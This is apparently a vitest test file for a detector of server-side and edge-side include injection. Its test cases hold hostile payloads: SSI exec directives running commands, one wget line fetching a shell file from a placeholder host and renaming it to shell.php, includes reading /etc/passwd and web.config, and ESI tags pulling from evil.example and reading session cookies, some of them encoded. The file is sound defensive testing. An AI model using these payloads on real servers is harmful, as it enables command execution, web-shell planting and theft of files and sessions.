import { describe, expect, it } from "vitest";
import { variants } from "../decode.ts";
import { classifySsi, SSI_RULES, ssiDetector } from "./ssi.ts";

const SUPERLINEAR_GUARD_MS = 250;

const rulesAt = (value: string, pl = 1, name = "ARGS:comment"): string[] => [
  ...new Set(
    variants(value).flatMap((v) =>
      ssiDetector
        .inspect({ name, value: v })
        .filter((d) => d.paranoia <= pl)
        .map((d) => d.rule),
    ),
  ),
];

describe("ssiDetector: directives", () => {
  it.each([
    '<!--#exec cmd="ls" -->',
    '<!--#exec cmd="wget http://some_host/shell.txt | rename shell.txt shell.php"-->',
    "<!--#EXEC CMD='id'-->",
    '<!--#exec cgi="/cgi-bin/x.cgi"-->',
    "%3C%21--%23exec%20cmd=%22ls%22%20--%3E",
    "PCEtLSNleGVjIGNtZD0ibHMiIC0tPg", // base64
    "&lt;!--#exec cmd=&quot;id&quot;--&gt;",
    '<!--#exec  cmd = "id"-->',
  ])("exec: %s", (value) => {
    expect(rulesAt(value)).toContain("ssi-exec");
  });

  it.each([
    '<!--#include virtual="/etc/passwd" -->',
    '<!-- #include file="../../web.config" -->', // IIS allows the space
    '<!--#echo var="DOCUMENT_ROOT" -->',
    '<!--#config timefmt="%A" -->',
    '<!--#config errmsg="x"-->',
    "<!--#printenv -->",
    "<!--#printenv-->",
    '<!--#set var="x" value="y" -->',
    '<!--#fsize file="index.html"-->',
    '<!--#flastmod virtual="/index.html"-->',
    '<!--#if expr="$a = b" -->',
    '<!--# include virtual="/etc/passwd"-->',
  ])("directive: %s", (value) => {
    expect(rulesAt(value)).toContain("ssi-directive");
  });

  it("keeps a bare directive name at PL2", () => {
    expect(rulesAt("<!--#else-->")).toEqual([]);
    expect(rulesAt("<!--#endif -->", 2)).toContain("ssi-directive-bare");
  });

  it.each([
    "<!-- #header -->",
    "<!-- #main .container -->",
    "<!-- include the footer here -->",
    "<!--#include-->", // the name alone is PL2
    "Use #include <stdio.h> in C",
    "#exec cmd in a shell tutorial",
    "<!-- echo var -->",
    "issue #123: the exec step fails",
  ])("not at PL1: %s", (value) => {
    expect(rulesAt(value)).toEqual([]);
  });
});

describe("ssiDetector: edge-side includes", () => {
  it.each([
    '<esi:include src="http://evil.example/"/>',
    "<ESI:INCLUDE SRC=//evil.example/>",
    '<esi:inline name="x" fetchable="yes">',
    "<esi:vars>$(HTTP_COOKIE{session})</esi:vars>",
    '<!--esi <esi:include src="/x"/> -->',
    "%3Cesi%3Ainclude%20src%3D%22http%3A%2F%2Fx%22%2F%3E",
    "<esi:debug/>",
  ])("%s", (value) => {
    expect(rulesAt(value)).toContain("ssi-esi-tag");
  });

  it.each(["The esi:include tag is documented here", "Tesi: my thesis title", "<esinclude>"])(
    "not %s",
    (value) => {
      expect(rulesAt(value)).toEqual([]);
    },
  );

  it("flags ESI request variables at PL2", () => {
    expect(rulesAt("$(HTTP_COOKIE{PHPSESSID})", 2)).toContain("ssi-esi-variable");
    expect(rulesAt("$(HTTP_COOKIE{PHPSESSID})")).toEqual([]);
  });
});

describe("ssiDetector: shape", () => {
  it("reports each rule with its table entry", () => {
    const [d] = ssiDetector.inspect({ name: "ARGS:x", value: '<!--#exec cmd="id"-->' });
    expect(d).toEqual({ rule: "ssi-exec", ...SSI_RULES["ssi-exec"], target: "ARGS:x" });
  });
  it("stays linear on hostile input", () => {
    for (const value of [
      "<!--#".repeat(20000),
      "<!-- ".repeat(20000),
      "<esi:".repeat(20000),
      "$(http_".repeat(10000),
    ]) {
      const t = performance.now();
      classifySsi(value);
      expect(performance.now() - t).toBeLessThan(SUPERLINEAR_GUARD_MS);
    }
  });
});
